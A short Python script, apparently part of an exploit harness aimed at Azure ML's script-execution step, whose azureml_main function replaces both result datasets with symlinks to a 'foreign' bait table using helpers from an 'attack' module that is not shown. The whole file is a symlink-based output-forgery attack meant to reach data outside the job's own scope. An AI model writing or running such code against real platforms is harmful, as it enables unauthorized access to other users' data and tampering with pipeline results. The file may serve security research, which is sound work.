"""Swaps a result for a link to a foreign file."""

import os

from attack import BAIT, publish_forged


def azureml_main(dataframe1=None, dataframe2=None):
    def link(path):
        os.symlink(BAIT["foreign_table"], path)

    publish_forged(result_dataset=link, result_dataset2=link)
